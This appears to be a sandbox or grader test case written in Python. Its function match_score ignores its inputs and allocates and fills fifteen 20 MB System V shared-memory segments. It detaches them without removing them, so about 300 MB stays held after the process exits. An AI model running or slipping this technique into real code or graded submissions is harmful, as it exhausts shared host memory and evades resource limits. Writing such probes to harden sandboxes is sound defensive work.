# family = "exhaustion"
# tries = "keeps its memory in System V segments, which nobody need be attached to"
# points = 0
# says = "OSError|MB of memory"
import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmdt.argtypes = [ctypes.c_void_p]


def match_score(patch, filt):
    size = 20 << 20
    for _ in range(15):
        segment = libc.shmget(0, size, 0o600)
        place = libc.shmat(segment, None, 0) if segment >= 0 else None
        if place in (None, 2**64 - 1):
            raise OSError(f"no segment: {ctypes.get_errno()}")
        ctypes.memset(place, 1, size)
        libc.shmdt(place)
    time.sleep(0.2)
    raise RuntimeError("300 MB are held")
